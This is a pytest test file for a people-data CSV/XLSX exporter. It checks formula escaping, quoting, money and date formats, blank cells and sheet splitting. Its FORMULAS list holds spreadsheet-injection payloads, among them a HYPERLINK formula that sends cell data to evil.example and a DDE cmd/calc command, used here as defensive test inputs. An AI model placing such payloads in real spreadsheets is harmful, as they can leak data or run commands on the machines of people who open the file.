"""Under test: files of people. Every cell is data, whatever somebody typed as a name; nothing is lost on the way."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from dmat.errors import InvalidInputError
from dmat.segments import export
from dmat.segments.export import check_format, csv_lines, header, is_formula, write_xlsx
from dmat.segments.people_columns import PersonColumn

COLUMNS = [
    PersonColumn("person_id", "Person", "number"), PersonColumn("name", "Name", "text"),
    PersonColumn("spent", "Spent", "money", currency_column="currency_code"),
    PersonColumn("has_email_consent", "E-mail", "consent"), PersonColumn("last_at", "Last", "date"),
]  # fmt: skip
BIG = 123_456_789_012_345_678


def person(name="Ann", number=1, spent=1050):
    return {
        "person_id": number, "name": name, "spent": spent, "spent_currency": "EUR", "has_email_consent": True,
        "last_at": datetime(2026, 3, 4, 12),
    }  # fmt: skip


FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1", "\n=1", " =1+1",
    "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(1)", "%0A=1", "|calc", "-cmd|x", "\x00=1", "=", "+491701=2",
]  # fmt: skip


def read_csv(rows):
    text = "".join(csv_lines(rows, COLUMNS))
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_is_text_in_both_formats(text, tmp_path):
    [row] = read_csv([person(text)])
    assert row["name"] == f"'{text}"
    write_xlsx(tmp_path / "x.xlsx", [person(text)], COLUMNS)
    sheet = load_workbook(tmp_path / "x.xlsx").active
    assert sheet["B2"].data_type in {"s", "inlineStr"}
    assert "<f>" not in zipfile.ZipFile(tmp_path / "x.xlsx").read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("text", ["Ann", "+491701234567", "O'Neil", "a=b", "日本", "5 - 3", "a@b.example", "", "1"])
def test_ordinary_text_stays_as_it_is(text):
    assert not is_formula(text)
    assert read_csv([person(text)])[0]["name"] == text


def test_cells_with_quotes_commas_and_lines_do_not_break_the_file():
    nasty = 'a "quoted", b;\nsecond line\r\nthird'
    assert [row["name"] for row in read_csv([person(nasty), person("next", 2)])] == [nasty, "next"]


def test_money_is_an_amount_with_its_currency_beside_it_and_consent_reads_as_a_word():
    [row] = read_csv([person(spent=123_456_789)])
    assert (row["spent"], row["spent_currency"], row["has_email_consent"]) == ("1234567.89", "EUR", "yes")
    assert row["last_at"] == "2026-03-04 12:00:00"
    assert header(COLUMNS) == ["person_id", "name", "spent", "spent_currency", "has_email_consent", "last_at"]


def test_what_is_unknown_is_an_empty_cell(tmp_path):
    blank = {name: None for name in header(COLUMNS)} | {"person_id": 1}
    assert read_csv([blank])[0] == {name: "" for name in header(COLUMNS)} | {"person_id": "1"}
    write_xlsx(tmp_path / "x.xlsx", [blank], COLUMNS)
    assert [cell.value for cell in load_workbook(tmp_path / "x.xlsx").active[2]] == [1, *[None] * 5]


def test_a_workbook_keeps_types_and_the_whole_number_of_a_person(tmp_path):
    assert write_xlsx(tmp_path / "x.xlsx", [person(number=BIG)], COLUMNS) == 1
    values = [cell.value for cell in load_workbook(tmp_path / "x.xlsx").active[2]]
    assert values == [str(BIG), "Ann", 10.5, "EUR", True, datetime(2026, 3, 4, 12)]


def test_signs_that_no_workbook_may_hold_are_left_out(tmp_path):
    write_xlsx(tmp_path / "x.xlsx", [person("a\x00b\x1fc\ud800d"), person(date(2026, 1, 2))], COLUMNS)
    sheet = load_workbook(tmp_path / "x.xlsx").active
    assert sheet["B2"].value == "abcd"
    assert sheet["B3"].value == datetime(2026, 1, 2)


def test_more_people_than_a_sheet_holds_go_on_in_another(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "ROWS_PER_SHEET", 2)
    assert write_xlsx(tmp_path / "x.xlsx", (person(number=n) for n in range(5)), COLUMNS) == 5
    book = load_workbook(tmp_path / "x.xlsx")
    assert [(sheet.title, sheet.max_row) for sheet in book] == [("Members", 3), ("Members 2", 3), ("Members 3", 2)]


def test_rows_are_written_as_they_come_not_kept():
    seen = []

    def rows():
        for number in range(5000):
            seen.append(number)
            yield person("x" * 100, number)

    lines = csv_lines(rows(), COLUMNS)
    next(lines)
    assert len(seen) < 1000


def test_an_unknown_format_is_refused_with_those_that_are_known():
    with pytest.raises(InvalidInputError, match="csv, xlsx"):
        check_format("pdf")
